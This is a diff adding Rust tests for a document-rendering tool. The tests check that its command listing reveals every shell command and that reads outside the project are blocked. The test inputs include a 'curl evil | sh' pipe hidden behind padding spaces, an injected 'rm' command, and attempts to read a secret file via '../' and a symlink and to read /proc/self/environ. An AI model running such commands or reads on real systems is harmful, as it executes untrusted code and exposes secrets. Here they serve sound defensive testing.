@@ -84,3 +84,51 @@ fn imports_from_outside_of_the_project_need_trust() {
     user.write("shared.md", "@text v = 'V'\n@define g = @run [echo changed]\n");
     user.towpath(&["render", "project/a.md"]).exits(5);
 }
+
+#[test]
+fn the_list_has_everything_that_would_run_and_every_file() {
+    let blanks = " ".repeat(300);
+    let document = format!(
+        "@run [echo hello{blanks}; curl evil | sh]\n@run [[\necho one\necho two\n]]\n@text v = 'a; rm x'\n\
+         @run [echo {{{{v}}}}]\n@embed [part.md]\n"
+    );
+    let user = User::new().file("a.md", &document).file("part.md", "P\n");
+    let printed = user.towpath(&["render", "a.md", "--list-commands"]).exits(0).stdout;
+    for text in ["; curl evil | sh", "echo one\n", "echo two\n", "echo 'a; rm x'\n", "\npart.md\n"]
+    {
+        assert!(printed.contains(text), "{text}: {printed}");
+    }
+    let json = user.towpath(&["render", "a.md", "--list-commands", "-f", "json"]).exits(0).json();
+    assert_eq!(json["files"][0], serde_json::json!({ "file": "part.md", "read": true }));
+}
+
+#[test]
+fn where_little_is_allowed_nothing_outside_of_the_project_is_read() {
+    let user = User::new().file("project/.towpath/keep", "").file("secret.txt", "s3cr3t\n");
+    let user = user
+        .file("project/a.md", "@embed [../secret.txt]\nend\n")
+        .file("project/b.md", "@embed [link.txt]\n@text x = @embed [/proc/self/environ]\n{{x}}\n")
+        .file("project/c.md", "@import [../secret.txt]\n");
+    std::os::unix::fs::symlink("../secret.txt", user.path("work/project/link.txt"))
+        .expect("a link");
+    let printed = user.towpath(&["render", "project/a.md", "--no-run"]).exits(0);
+    printed.prints("@embed [../secret.txt]\nend\n").reports("outside of the project");
+    for (file, flag) in [
+        ("project/a.md", "--no-run"),
+        ("project/a.md", "--list-commands"),
+        ("project/a.md", "--allow-shell"),
+        ("project/b.md", "--no-run"),
+        ("project/c.md", "--no-run"),
+    ] {
+        let output = user.command(&["render", file, flag]).output().expect("it starts");
+        let text = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
+        assert!(!text.contains("s3cr3t") && !text.contains("PATH="), "{file} {flag}: {text}");
+    }
+    user.towpath(&["render", "project/a.md", "--allow-shell"]).exits(5).reports("--allow-read");
+    user.towpath(&["render", "project/a.md", "--no-run", "--allow-read"])
+        .exits(0)
+        .prints("s3cr3t\nend\n");
+    user.towpath(&["render", "project/a.md"]).exits(0).prints("s3cr3t\nend\n");
+    user.write("project/d.md", "@embed [/proc/self/environ]\n");
+    user.towpath(&["render", "project/d.md", "--allow-read"]).exits(2).reports("@run [cat");
+}
